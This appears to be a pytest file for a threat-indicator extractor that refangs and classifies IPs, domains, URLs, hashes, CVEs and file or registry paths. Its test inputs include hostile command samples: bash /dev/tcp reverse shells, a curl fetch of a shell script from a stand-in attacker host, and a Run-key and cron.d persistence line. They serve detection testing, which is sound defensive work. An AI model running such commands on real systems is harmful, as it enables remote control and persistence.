"""Indicators come out of text whole, refanged and classified; nothing else does."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.agents.toolkit.indicators import classify_address, extract, extract_paths, is_benign_domain, refang
from services.agents.toolkit.warninglists import warning_of
from shared.contracts.common import Observable


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (
            "curl hxxp://evil[.]example/x.sh",
            [Observable("url", "http://evil.example/x.sh"), Observable("domain", "evil.example")],
        ),
        ("from 192[.]0[.]2[.]7 port 22", [Observable("ip", "192.0.2.7")]),
        ("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", [Observable("ip", "198.51.100.9")]),
        ("mail bob[at]evil[.]example", [Observable("email", "bob@evil.example")]),
        ("SHA256=" + "AB" * 32, [Observable("hash", "ab" * 32)]),
        ("connect to [2001:db8::1]:443", [Observable("ip", "2001:db8::1")]),
        ("sha512 " + "ab" * 64, [Observable("hash", "ab" * 64)]),
        ("exploits cve-2021-44228.", [Observable("cve", "CVE-2021-44228")]),
        ("resolved bücher.de", [Observable("domain", "xn--bcher-kva.de")]),
        ("resolved xn--bcher-kva.de", [Observable("domain", "xn--bcher-kva.de")]),
        ("beacon to evil[.]monster", [Observable("domain", "evil.monster")]),
        ("beacon to cdn.evil.monster", [Observable("domain", "cdn.evil.monster")]),
        ("fetch hxxps://evil.zip/a", [Observable("url", "https://evil.zip/a"), Observable("domain", "evil.zip")]),
        ("route via fe80::1", [Observable("ip", "fe80::1")]),
        (
            "ftp://u@files.evil.example:21/a",
            [Observable("url", "ftp://u@files.evil.example:21/a"), Observable("domain", "files.evil.example")],
        ),
    ],
)
def test_indicators_are_found_in_their_normal_form(text: str, found: list[Observable]) -> None:
    assert extract([text]) == found


@pytest.mark.parametrize(
    "text",
    [
        "python3.11 setup.py",
        "kernel32.dll",
        "version 1.2.3.4.5",
        "/etc/nginx/nginx.conf",
        "999.1.1.1",
        "update.sh | sh",
        "$process.name and user.group",
        "System.Security.Principal.WindowsIdentity",
        "archive.zip main.rs setup.pl",
        "10,0,0,1",
    ],
)
def test_file_names_and_versions_are_no_indicators(text: str) -> None:
    assert extract([text]) == []


@pytest.mark.parametrize(
    ("address", "kind"),
    [
        ("127.0.0.1", "loopback"),
        ("10.1.2.3", "private"),
        ("169.254.1.1", "link_local"),
        ("192.0.2.1", "documentation"),
        ("224.0.0.1", "multicast"),
        ("45.33.32.156", "public"),
        ("::1", "loopback"),
        ("2606:4700::1", "public"),
    ],
)
def test_an_address_is_classified_by_its_range(address: str, kind: str) -> None:
    assert classify_address(address) == kind


def test_a_domain_below_a_benign_one_is_benign_and_one_that_only_ends_alike_is_not() -> None:
    assert is_benign_domain("download.windowsupdate.com")
    assert not is_benign_domain("evilwindowsupdate.com")


def test_each_indicator_is_named_once_and_their_number_is_bounded() -> None:
    assert extract(["192.0.2.7 192.0.2.7", "192.0.2.7"]) == [Observable("ip", "192.0.2.7")]
    many = " ".join(f"10.0.{number // 250}.{number % 250 + 1}" for number in range(400))
    assert len(extract([many])) == 200


@given(st.text(max_size=300))
def test_any_text_is_read_without_an_error(text: str) -> None:
    assert all(item.value for item in extract([text]))
    assert isinstance(refang(text), str)


@pytest.mark.parametrize(
    ("type_", "value", "kind"),
    [
        ("domain", "x.cloudfront.net", "shared"),
        ("domain", "s3.amazonaws.com", "shared"),
        ("domain", "ec2.amazonaws.com", "benign"),
        ("url", "https://windowsupdate.com/a", "benign"),
        ("url", "https://pastebin.com/raw/a", None),
        ("ip", "1.1.1.1", "benign"),
        ("ip", "104.16.1.1", "shared"),
        ("hash", "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "benign"),
        ("domain", "evil-microsoft.com", None),
        ("ip", "nonsense", None),
    ],
)
def test_a_list_says_what_being_on_it_means(type_: str, value: str, kind: str | None) -> None:
    found = warning_of(Observable(type_, value))
    assert (None if found is None else found.kind) == kind


def test_paths_and_keys_are_asked_for_apart() -> None:
    line = 'reg add HKCU\\Software\\Run /v x /d "C:\\Users\\Public\\a.exe" && cp /tmp/x /etc/cron.d/y'
    assert extract([line]) == []
    assert extract_paths([line]) == [
        Observable("registry", "HKCU\\Software\\Run"),
        Observable("file", "C:\\Users\\Public\\a.exe"),
        Observable("file", "/tmp/x"),
        Observable("file", "/etc/cron.d/y"),
    ]


def test_the_version_of_a_program_is_no_address() -> None:
    agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
    assert extract([agent]) == []
    addresses = ["bash -i >& /dev/tcp/45.33.32.156/4444", "ping 45.33.32.157", "http://45.33.32.158/a"]
    assert [item.value for item in extract(addresses) if item.type == "ip"] == [
        f"45.33.32.{n}" for n in (156, 157, 158)
    ]
